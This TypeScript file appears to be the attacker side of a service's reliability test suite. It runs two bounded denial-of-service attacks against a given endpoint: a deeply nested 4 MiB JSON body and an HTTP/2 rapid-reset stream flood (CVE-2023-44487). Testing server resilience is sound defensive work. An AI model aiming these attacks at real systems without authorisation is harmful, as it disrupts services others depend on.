import * as http from "node:http";
import * as http2 from "node:http2";

/**
 * The attacks of the reliability suite, run in a child process so that the attacker's own
 * work does not share the server's event loop (it would otherwise slow the probe calls the
 * tests measure, and count against the server). Bounded: every mode stops after `count`
 * attempts or `maxMs`, whichever comes first, and prints one JSON line of what it saw.
 *
 *   node attacker.ts deep-json <httpUrl> <count> <parallel>
 *   node attacker.ts rapid-reset <url> <count> <maxMs>
 */

const CONNECT_ACCOUNT = "/postpress.accounts.v1.AccountService/ConnectAccount";
const [mode, target, countArg, extraArg] = process.argv.slice(2);
const count = Number(countArg);

/** A 4 MiB JSON body nested 2 million arrays deep: costly to parse, so it must not be. */
async function deepJson(parallel: number): Promise<object> {
  const half = 2 * 1024 * 1024 - 1;
  const body = Buffer.from("[".repeat(half) + "]".repeat(half));
  const statuses: Record<string, number> = {};
  const durations: number[] = [];
  let sent = 0;
  const agent = new http.Agent({ keepAlive: true, maxSockets: parallel });
  const one = () =>
    new Promise<void>((resolve) => {
      const started = performance.now();
      const req = http.request(`${target}${CONNECT_ACCOUNT}`, { method: "POST", agent, headers: { "content-type": "application/json", "content-length": body.byteLength } }, (res) => {
        res.resume();
        res.on("end", () => {
          statuses[res.statusCode ?? 0] = (statuses[res.statusCode ?? 0] ?? 0) + 1;
          durations.push(performance.now() - started);
          resolve();
        });
      });
      req.on("error", (e) => {
        statuses[(e as NodeJS.ErrnoException).code ?? "error"] = (statuses[(e as NodeJS.ErrnoException).code ?? "error"] ?? 0) + 1;
        resolve();
      });
      req.end(body);
    });
  await Promise.all(
    Array.from({ length: parallel }, async () => {
      while (sent < count) {
        sent++;
        await one();
      }
    }),
  );
  agent.destroy();
  durations.sort((a, b) => a - b);
  return { sent, statuses, maxMs: Math.round(durations.at(-1) ?? 0) };
}

/** Opens streams and cancels each at once (CVE-2023-44487), reconnecting when the server hangs up. */
async function rapidReset(maxMs: number): Promise<object> {
  const deadline = Date.now() + maxMs;
  let streams = 0;
  let sessions = 0;
  let goaways = 0;
  while (streams < count && Date.now() < deadline) {
    sessions++;
    const session = http2.connect(target!);
    session.on("error", () => {});
    session.on("goaway", () => goaways++);
    await new Promise<void>((resolve) => {
      session.once("close", resolve);
      session.once("connect", () => {
        const burst = () => {
          if (session.destroyed || session.closed) return;
          if (streams >= count || Date.now() >= deadline) return session.destroy();
          for (let i = 0; i < 100 && !session.destroyed && !session.closed; i++) {
            streams++;
            try {
              const stream = session.request({ ":method": "POST", ":path": CONNECT_ACCOUNT, "content-type": "application/grpc" });
              stream.on("error", () => {});
              stream.close(http2.constants.NGHTTP2_CANCEL);
            } catch {
              return session.destroy();
            }
          }
          setImmediate(burst);
        };
        burst();
      });
    });
  }
  return { streams, sessions, goaways };
}

const result = mode === "deep-json" ? await deepJson(Number(extraArg)) : await rapidReset(Number(extraArg));
process.stdout.write(`${JSON.stringify(result)}\n`);
